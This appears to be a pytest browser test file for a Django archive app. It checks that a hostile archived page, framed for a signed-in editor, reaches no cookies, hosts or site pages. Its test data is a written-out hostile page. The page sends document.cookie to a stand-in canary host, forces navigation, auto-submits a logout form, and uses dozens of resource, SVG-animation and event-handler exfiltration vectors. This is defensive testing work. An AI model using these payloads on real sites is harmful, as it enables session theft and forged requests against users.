"""A hostile page in the archive, opened by an editor: it reaches neither our cookies, nor our pages, nor others."""

import os
import socketserver
import threading
from contextlib import contextmanager
from io import BytesIO
from types import SimpleNamespace
from uuid import uuid4

import pytest
from django.conf import settings as site_settings
from django.test import Client
from pytest_django.live_server_helper import LiveServer

from allegations.actions.links.store import archive
from tests import factories
from tests.journeys import conftest as browsers
from tests.journeys.test_pages_browser import overflow, violations
from tests.machine import eventually

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

SECRET = f"secret-{uuid4().hex}"
RUN = """
const tell = (what) => {{
  new Image().src = "{canary}/script-" + what;
  fetch("{canary}/fetch-" + what, {{mode: "no-cors"}});
}};
tell("ran");
try {{ tell("cookie?" + document.cookie) }} catch (refused) {{}}
try {{ localStorage.setItem("a", "b"); tell("storage") }} catch (refused) {{}}
try {{ tell("parent?" + parent.document.title) }} catch (refused) {{}}
try {{ if (LEAVES) top.location = "{site}/admin/?taken" }} catch (refused) {{}}
try {{ if (LEAVES) window.open("{canary}/popup") }} catch (refused) {{}}
try {{ navigator.serviceWorker.register(location.origin + "/worker.js") }} catch (refused) {{}}
try {{ fetch("{site}/admin/", {{credentials: "include", mode: "no-cors"}}) }} catch (refused) {{}}
try {{ if (LEAVES) document.forms[0].submit() }} catch (refused) {{}}
try {{ navigator.sendBeacon("{canary}/beacon") }} catch (refused) {{}}
try {{ new WebSocket("ws://{canary_host}/socket") }} catch (refused) {{}}
"""
# Links whose address comes of an animation, and others in a second column.
ANIMATED = """<style>
[data-second] {{ position: absolute; inset-inline-start: 250px; inline-size: 200px; block-size: 40px }}
[data-second] a {{ position: static }}
</style>
<svg data-second style="top: 0"><a><set attributeName="href" to="{canary}/set" fill="freeze"/>
<rect width="200" height="40"/></a></svg>
<svg data-second style="top: 50px"><a><animate ATTRIBUTENAME = "&#104;ref" values="{canary}/animate" begin="0s" dur="1s"
fill="freeze"/><rect width="200" height="40"/></a></svg>
<svg data-second style="top: 100px"><a id="targeted"><rect width="200" height="40"/></a>
<set href="#targeted"attributename='href' to="{canary}/targeted"/></svg>
<form><button data-second style="top: 150px; inset-inline-start: 250px" formaction="{canary}/formaction">There</button>
</form><map name="map"><area shape="rect" coords="0,0,200,40" href="{canary}/area"></map>
<img data-second style="top: 200px" usemap="#map" alt="Area" src="data:image/svg+xml,&lt;svg
xmlns='http://www.w3.org/2000/svg'/&gt;">
"""
HOSTILE = """<!doctype html>
<html><head>
<base href="{canary}/base/">
<meta http-equiv="{refresh}" content="0;url={canary}/refresh">
<meta http-equiv="x-dns-prefetch-control" content="on">
<link rel="dns-prefetch" href="//{name}">
<link rel="preconnect" href="{canary}">
<link rel="prefetch" href="{canary}/prefetch">
<link rel="preload" as="image" href="{canary}/preload">
<link rel="modulepreload" href="{canary}/modulepreload">
<link rel="prerender" href="{canary}/prerender">
<link rel="stylesheet" href="{canary}/stylesheet.css">
<link rel="stylesheet" href="{site}/static/css/tokens.css?from-the-copy">
<link rel="icon" href="{canary}/icon">
<link rel="manifest" href="{canary}/manifest">
<script type="speculationrules">{{"prefetch": [{{"urls": ["{canary}/speculation"]}}]}}</script>
<style>
@import url("{canary}/import.css");
@font-face {{ font-family: stolen; src: url("{canary}/font") }}
body {{ margin: 0; font-family: stolen; background: url("{canary}/background") }}
a, button {{ position: absolute; inset-inline-start: 0; inline-size: 200px; block-size: 40px; display: block }}
</style>
<script>{run}</script>
<script src="{canary}/script.js"></script>
<script type="module" src="{canary}/module.js"></script>
</head>
<body onload='new Image().src="{canary}/onload"'>
<form action="{site}/admin/logout/" method="post"><button style="top: 0">Sign out</button></form>
<form action="{canary}/form"><button style="top: 50px">Send</button></form>
<a style="top: 100px" target="_top" href="{site}/admin/?top">Top</a>
<a style="top: 150px" target="_blank" href="{canary}/blank" ping="{canary}/ping">New</a>
<a style="top: 200px" href="{canary}/link" ping="{canary}/ping">Link</a>
<a style="top: 250px" href="{canary}/download" download>Download</a>
<a style="top: 300px" href="{site}/admin/?link">Ours</a>
{animated}
<div style="margin-top: 400px; background: url('{canary}/attribute')">It is said that it is so.</div>
<img src="{canary}/image" srcset="{canary}/srcset 2x"><img src="{site}/admin/logout/?image">
<img src="x" onerror='new Image().src="{canary}/onerror"'>
<picture><source srcset="{canary}/picture"><img src="{canary}/fallback"></picture>
<video src="{canary}/video" poster="{canary}/poster" autoplay><track default src="{canary}/track"></video>
<audio src="{canary}/audio" autoplay></audio>
<object data="{canary}/object"></object><embed type="text/html" src="{canary}/embed">
<iframe src="{canary}/frame"></iframe><iframe src="{site}/admin/?framed"></iframe>
<iframe srcdoc="&lt;script&gt;new Image().src='{canary}/srcdoc'&lt;/script&gt;
&lt;link rel=preconnect href={canary}&gt;"></iframe>
<img src="data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg'&gt;
&lt;image href='{canary}/svg-data'/&gt;&lt;/svg&gt;">
<iframe src="data:text/html,&lt;img src='{canary}/data-frame'&gt;"></iframe>
<img attributionsrc="{canary}/attribution" src="data:,">
<table background="{canary}/table"><tr><td>Cell</table>
<input type="image" src="{canary}/input-image">
<ul style="list-style: url('{canary}/list')"><li style="cursor: url('{canary}/cursor'), auto">Item</ul>
<p style="mask: url('{canary}/mask#m'); border-image: url('{canary}/border') 1;
filter: url('{canary}/filter#f')">Masked</p>
<svg onload='new Image().src="{canary}/svg-onload"'><script>new Image().src="{canary}/svg-script"</script>
<image href="{canary}/svg-image"/><use href="{canary}/svg#use"/></svg>
<input autofocus onfocus='new Image().src="{canary}/onfocus"'>
<details open ontoggle='new Image().src="{canary}/ontoggle"'><summary>More</summary></details>
</body></html>
"""
# What the page does where nothing holds it back; each of these shows in the control below.
DEEDS = (
    *(
        "script-ran",
        "fetch-ran",
        "script-storage",
        "onload",
        "onerror",
        "onfocus",
        "ontoggle",
        "svg-onload",
        "svg-script",
    ),
    *("prefetch", "preload", "modulepreload", "stylesheet.css", "import.css", "background", "attribute", "script.js"),
    *("module.js", "image", "picture", "video", "poster", "audio", "object", "embed", "frame", "srcdoc", "svg-image"),
    *("beacon", "socket", "data-frame", "table", "input-image", "list", "mask", "border"),
)


class Canary(socketserver.ThreadingTCPServer):
    """A server that nobody may reach: what it was asked, or “connected” where nothing was."""

    daemon_threads = allow_reuse_address = True

    def __init__(self, body=b""):
        self.visits, self.body = [], body
        super().__init__(("127.0.0.1", 0), self.Visit)

    @property
    def asked(self):
        return [visit[0] for visit in self.visits]

    @property
    def address(self):
        return f"http://127.0.0.1:{self.server_address[1]}"

    class Visit(socketserver.StreamRequestHandler):
        def handle(self):
            visit = ["connected"]
            self.server.visits.append(visit)
            line = self.rfile.readline().decode("latin-1")
            while self.rfile.readline().strip():
                pass
            if line:
                visit[0] = line.split()[1]
            head = f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {len(self.server.body)}\r\n"
            self.wfile.write(f"{head}Connection: close\r\n\r\n".encode() + self.server.body)


class Recorder:
    """Write down every request to the site and to the origin of the copies."""

    seen: list = []

    def __init__(self, get_response):
        self.get_response = get_response

    def __call__(self, request):
        headers = request.headers
        self.seen.append(
            SimpleNamespace(
                host=headers.get("Host"),
                path=request.get_full_path(),
                method=request.method,
                cookie=headers.get("Cookie"),
                dest=headers.get("Sec-Fetch-Dest"),
                referrer=headers.get("Referer"),
            )
        )
        return self.get_response(request)


@pytest.fixture(scope="module")
def profile(tmp_path_factory):
    """The browser of an ordinary person, who is not incognito: only there hints to connect are followed."""
    if browsers.CHROMIUM is None:
        if os.environ.get("CI"):
            pytest.fail("There is no Chromium, and the browser tests must not be left out here.")
        pytest.skip("There is no Chromium; install the package chromium to run the browser tests.")
    from playwright.sync_api import sync_playwright

    folder = tmp_path_factory.mktemp("profile")
    arguments = [argument for argument in browsers.ARGUMENTS if "background-networking" not in argument]
    arguments += ["--no-sandbox"] if os.geteuid() == 0 else []
    with sync_playwright() as playwright:
        context = playwright.chromium.launch_persistent_context(
            folder / "data",
            executable_path=browsers.CHROMIUM,
            ignore_default_args=["--disable-background-networking"],
            args=[*arguments, f"--log-net-log={folder / 'net.json'}"],
        )
        context.net_log = folder / "net.json"
        yield context
        context.close()


@contextmanager
def serving(body=b""):
    with Canary(body) as server:
        threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True).start()
        yield server
        server.shutdown()


@pytest.fixture
def canary():
    with serving() as server:
        yield server


@pytest.fixture
def world(settings, canary):
    """The site and the origin of the copies as in the demo, with the hostile page in the archive of a public source."""
    Recorder.seen.clear()
    settings.MIDDLEWARE = [f"{__name__}.Recorder", *settings.MIDDLEWARE]
    site, copies = LiveServer("127.0.0.1"), LiveServer("localhost")
    settings.ALLOWED_HOSTS = ["127.0.0.1", "testserver"]
    settings.ARCHIVE_ORIGIN = copies.url
    source = factories.allegation(factories.candidacy().candidate).citations.get().source
    page = hostile(canary, site.url).encode()
    copy = factories.capture(source, page)
    factories.capture_text(copy, "It is said that it is so.")
    archive().put(copy.file.key, BytesIO(page))
    yield SimpleNamespace(site=site.url, copies=copies.url, source=source, copy=copy, canary=canary)
    site.stop()
    copies.stop()


def hostile(canary, site, *, leaves=True, name="named.localhost"):
    """The page; it goes elsewhere at once if it `leaves`, and else stays for all that it does where it is."""
    host = canary.address.removeprefix("http://")
    places = {"canary": canary.address, "canary_host": host, "site": site, "name": name}
    run = RUN.format(**places).replace("LEAVES", str(leaves).lower())
    refresh = "refresh" if leaves else "none"
    animated = ANIMATED.format(**places)
    return HOSTILE.format(**places, refresh=refresh, run=run, animated=animated)


@pytest.fixture
def editor_at(profile, world):
    """Open a page as an editor who is signed in on the site, with a cookie there that scripts could read."""
    session = Client()
    session.force_login(factories.editor())
    name = site_settings.SESSION_COOKIE_NAME
    ours = {"name": name, "value": session.cookies[name].value, "url": world.site, "httpOnly": True}
    profile.add_cookies([ours, {"name": "plain", "value": SECRET, "url": world.site}])

    def open_at(path):
        page = profile.new_page()
        page.said = []
        page.on("console", lambda said: page.said.append((said.type, said.location.get("url", ""), said.text)))
        page.on("pageerror", lambda error: page.said.append(("error", "", str(error))))
        page.goto(world.site + path)
        return page

    yield open_at
    end(profile)


def end(profile):
    """Leave an empty browser to the next test."""
    while pages := profile.pages[1:]:
        pages[0].close()
    profile.clear_cookies()


def read_copy(page, world):
    """From the page of the source to that of the copy, until its frame has loaded and nothing more is asked."""
    page.get_by_role("link", name="Copy of").first.click()
    page.locator("iframe").wait_for()
    page.wait_for_load_state("networkidle")
    assert page.url == world.site + world.copy.get_absolute_url()
    frame = page.frames[1]
    assert frame.url.startswith(f"{world.copies}/copies/")
    return frame


def requests_to(origin):
    return [seen for seen in Recorder.seen if seen.host == origin.removeprefix("http://")]


def looked_up(profile):
    """What the browser wrote down of its network until now."""
    mark = f"{uuid4().hex}.localhost"
    with serving(b"") as other:
        page = profile.new_page()
        page.goto(other.address.replace("127.0.0.1", mark))
        page.close()
    assert eventually(lambda: mark in profile.net_log.read_text())
    return profile.net_log.read_text()


@contextmanager
def bare(profile, body):
    """Show a page with nothing that holds it back; give its server, and every page that it asks for."""
    gone_to = []
    with serving(body.encode()) as server:
        tab = profile.new_page()
        tab.on("request", lambda request: request.is_navigation_request() and gone_to.append(request.url))
        tab.goto(f"http://localhost:{server.server_address[1]}/", wait_until="commit")
        yield server, gone_to
        end(profile)


def test_the_page_is_as_hostile_as_it_looks(profile, canary, world):
    """Where nothing holds it back, the same page does all this; else the next tests could not fail."""

    def left_undone():
        return [deed for deed in DEEDS if not any(path.startswith(f"/{deed}") for path in canary.asked)]

    with bare(profile, hostile(canary, world.site, leaves=False, name="named-bare.localhost")) as (server, _):
        eventually(lambda: not left_undone() and "/worker.js" in server.asked)
        assert "/worker.js" in server.asked
    assert left_undone() == []
    assert "named-bare.localhost" in looked_up(profile)
    assert {"/admin/logout/?image", "/admin/?framed"} <= {seen.path for seen in requests_to(world.site)}

    with bare(profile, hostile(canary, world.site, name="named-bare.localhost")) as (_, gone_to):
        left = {f"{world.site}/admin/logout/", f"{world.site}/admin/?taken", f"{canary.address}/refresh"}
        profile.pages[-1].wait_for_load_state("networkidle")
        assert left & set(gone_to)


def test_a_hostile_page_reaches_nothing(profile, editor_at, world, canary):
    page = editor_at(world.source.get_absolute_url())
    read_copy(page, world)

    assert canary.asked == []
    assert "named.localhost" not in looked_up(profile)
    assert profile.pages[1:] == [page]
    assert profile.service_workers == []
    assert page.locator("h1").inner_text() == str(world.source)
    [asked] = requests_to(world.copies)
    assert (asked.method, asked.dest, asked.cookie, asked.referrer) == ("GET", "iframe", None, None)
    of_the_site = [seen.path for seen in requests_to(world.site) if not seen.path.startswith("/static/")]
    assert of_the_site == [world.source.get_absolute_url(), world.copy.get_absolute_url()]
    assert [seen.path for seen in requests_to(world.site) if "from-the-copy" in seen.path] == []
    assert [said for said in page.said if said[0] == "error" and not said[1].startswith(world.copies)] == []


LEFT = 20  # pixels from the edge of the frame, on every link and button of the page
PLACES = {"Sign out": 0, "Send": 50, "Top": 100, "New": 150, "Link": 200, "Download": 250, "Ours": 300}
SECOND = 250  # pixels from the edge to the second column
SECOND_PLACES = {"/set": 0, "/animate": 50, "/targeted": 100, "/formaction": 150, "/area": 200}


@pytest.mark.parametrize(("path", "top"), SECOND_PLACES.items())
def test_links_of_the_second_column_lead_away_where_nothing_holds_them_back(profile, canary, path, top):
    def led():
        profile.pages[-1].mouse.click(SECOND + LEFT, top + LEFT)
        return any(asked.startswith(path) for asked in canary.asked)

    with bare(profile, f"<!doctype html>{ANIMATED.format(canary=canary.address)}"):
        assert eventually(led, within=20)


@pytest.mark.parametrize("button", ["left", "middle"])
def test_nothing_in_a_hostile_page_leads_anywhere_when_it_is_clicked(profile, editor_at, world, canary, button):
    page = editor_at(world.copy.get_absolute_url())
    frame = page.locator("iframe")
    frame.scroll_into_view_if_needed()
    box, address = frame.bounding_box(), page.frames[1].url
    asked = len(Recorder.seen)

    for top in PLACES.values():
        page.mouse.click(box["x"] + LEFT, box["y"] + top + LEFT, button=button)
    for top in SECOND_PLACES.values():
        page.mouse.click(box["x"] + SECOND + LEFT, box["y"] + top + LEFT, button=button)
    page.wait_for_load_state("networkidle")

    assert canary.asked == []
    assert profile.pages[1:] == [page]
    assert (page.url, page.frames[1].url) == (world.site + world.copy.get_absolute_url(), address)
    assert Recorder.seen[asked:] == []


def test_a_copy_is_refused_as_a_page_and_in_the_frame_of_another_site(profile, editor_at, world):
    page = editor_at(world.copy.get_absolute_url())
    address = page.frames[1].url
    said = page.goto(address)
    assert (said.status, said.headers["content-type"]) == (403, "text/plain; charset=utf-8")
    assert "shown in its frame" in page.locator("body").inner_text()

    with serving(f'<iframe src="{address}"></iframe>'.encode()) as other:
        page.goto(other.address)
        page.wait_for_load_state("networkidle")
        assert page.frames[1].url == "chrome-error://chromewebdata/"


def test_the_page_of_a_copy_is_accessible_with_its_frame(editor_at, world):
    page = editor_at(world.copy.get_absolute_url())
    for width, scheme in ((360, "dark"), (1280, "light")):
        page.set_viewport_size({"width": width, "height": 900})
        page.emulate_media(color_scheme=scheme)
        assert (violations(page), overflow(page)) == ([], 0)
